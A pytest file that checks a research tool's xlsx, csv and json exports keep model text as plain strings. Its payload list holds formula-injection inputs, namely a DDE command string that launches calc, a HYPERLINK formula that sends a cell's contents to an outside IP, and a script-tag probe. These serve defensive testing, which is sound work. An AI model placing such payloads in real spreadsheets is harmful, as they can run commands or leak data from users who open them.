"""No text of a narrative or a model becomes a formula, a link or markup in an export, and each comes back as it was."""

from __future__ import annotations

import csv
import json
import stat
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from test_exports import ID, export_all, row

from narrun_async.codebook import OUR_COLUMNS, R_COLUMNS
from narrun_async.errors import StorageError
from narrun_async.reporting.exports import workbook
from narrun_async.reporting.exports.workbook import MAX_CELL_CHARS, quote_cell, unquote_cell

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    "+1-1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    "http://192.0.2.1/",
    "0012",
]
TEXTS = ("narrative_text", "rationale", "reasoning_steps", "raw_response", "error_message", "finish_reason")


async def export(rows: list[dict[str, object]], directory: Path, **options: Any) -> list[Path]:
    return list((await export_all(rows, directory, with_text=True, **options)).files.values())


def rows_of(payloads: list[str]) -> list[dict[str, object]]:
    return [row(number, **dict.fromkeys(TEXTS, payload)) for number, payload in enumerate(payloads, 1)]


@pytest.mark.fault("S04")
async def test_no_text_becomes_a_formula_a_link_or_a_number_in_a_workbook(tmp_path: Path, measured: Any) -> None:
    (path,) = await export(rows_of(PAYLOADS), tmp_path, formats=["xlsx"])

    sheet = openpyxl.load_workbook(path)["results"]
    header, *found = sheet.iter_rows()
    names = [cell.value for cell in header]
    assert names == [*R_COLUMNS, *OUR_COLUMNS]
    for payload, cells in zip(PAYLOADS, found, strict=True):
        for name in TEXTS:
            cell = cells[names.index(name)]
            assert cell.data_type == "s"
            assert cell.hyperlink is None
            # openpyxl leaves the escaped form of what XML would normalise
            assert str(cell.value).replace("_x000D_", "\r") == payload
        assert cells[names.index("confidence")].value == pytest.approx(
            0.1 + 0.2, rel=1e-14
        )  # the format keeps 16 digits
        assert cells[names.index("error_occurred")].data_type == "n"
    with zipfile.ZipFile(path) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in everything
    assert b"<hyperlink" not in everything
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(one.name for one in tmp_path.iterdir()) == [f"{ID}.with-text.codebook.csv", f"{ID}.with-text.xlsx"]
    measured(f"xlsx: {len(PAYLOADS)} payloads in {len(TEXTS)} columns, 0 formulas, 0 links, all equal")


@pytest.mark.fault("S04")
async def test_an_excel_safe_csv_has_no_cell_that_begins_as_a_formula_and_is_undone_exactly(
    tmp_path: Path, measured: Any
) -> None:
    (path,) = await export(rows_of(PAYLOADS), tmp_path, formats=["csv"], excel_safe=True)

    with path.open(encoding="utf-8", newline="") as file:
        header, *found = list(csv.reader(file, strict=True))
    for payload, cells in zip(PAYLOADS, found, strict=True):
        for name in TEXTS:
            cell = cells[header.index(name)]
            assert cell[0] not in "=+-@\t\r＝"
            assert unquote_cell(cell) == payload
        assert cells[header.index("confidence")] == repr(0.1 + 0.2)
    measured(
        f"csv: {len(PAYLOADS)} payloads in {len(TEXTS)} columns, 0 cells begin as a formula, all equal after unquote"
    )


async def test_without_the_flag_the_csv_holds_every_text_as_it_is(tmp_path: Path) -> None:
    (path,) = await export(rows_of(PAYLOADS), tmp_path, formats=["csv"])
    with path.open(encoding="utf-8", newline="") as file:
        header, *found = list(csv.reader(file, strict=True))
    assert [cells[header.index("rationale")] for cells in found] == PAYLOADS


@pytest.mark.parametrize("value", [*PAYLOADS, "", "plain", "''", "'", -1, -0.5, None, "\n=1"])
def test_quoting_is_undone_exactly(value: object) -> None:
    quoted = quote_cell(value)
    assert unquote_cell(quoted) == value if isinstance(quoted, str) else quoted == value


@pytest.mark.fault("S07")
async def test_markup_in_a_text_is_text_in_every_export(tmp_path: Path, measured: Any) -> None:
    markup = "<script>alert(1)</script>"
    paths = await export(rows_of([markup]), tmp_path, formats=["csv", "json", "xlsx"])

    with paths[0].open(encoding="utf-8", newline="") as file:
        header, cells = list(csv.reader(file, strict=True))
    assert cells[header.index("rationale")] == markup
    assert json.loads(paths[1].read_text(encoding="utf-8"))["results"][0]["rationale"] == markup
    sheet = openpyxl.load_workbook(paths[2])["results"]
    assert sheet.cell(2, [*R_COLUMNS, *OUR_COLUMNS].index("rationale") + 1).value == markup
    with zipfile.ZipFile(paths[2]) as archive:
        assert not [name for name in archive.namelist() if b"<script" in archive.read(name)]
    measured("csv, json, xlsx: plain text in each")


async def test_what_a_cell_cannot_hold_is_cut_and_says_so(tmp_path: Path) -> None:
    odd = row(1, raw_response="x" * 70_000, rationale="a\0b\ud800\x1b", response_sec=float("nan"), result_id=2**60)
    (path,) = await export([odd], tmp_path, formats=["xlsx"])
    sheet = openpyxl.load_workbook(path)["results"]
    values = {name: sheet.cell(2, column + 1).value for column, name in enumerate((*R_COLUMNS, *OUR_COLUMNS))}
    assert len(values["raw_response"]) == MAX_CELL_CHARS
    assert values["raw_response"].endswith("the csv file has all of it]")
    assert str(values["rationale"]).startswith("a")
    assert values["result_id"] == str(2**60)  # a cell would round the number


async def test_a_workbook_that_cannot_be_finished_leaves_the_old_one_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (path,) = await export(rows_of(["first"]), tmp_path, formats=["xlsx"])
    before = path.read_bytes()
    monkeypatch.setattr(workbook, "MAX_ROWS", 2)
    with pytest.raises(StorageError):
        await export(rows_of(["second", "third"]), tmp_path, formats=["xlsx"])
    assert path.read_bytes() == before
    assert sorted(one.name for one in tmp_path.iterdir()) == [f"{ID}.with-text.codebook.csv", f"{ID}.with-text.xlsx"]
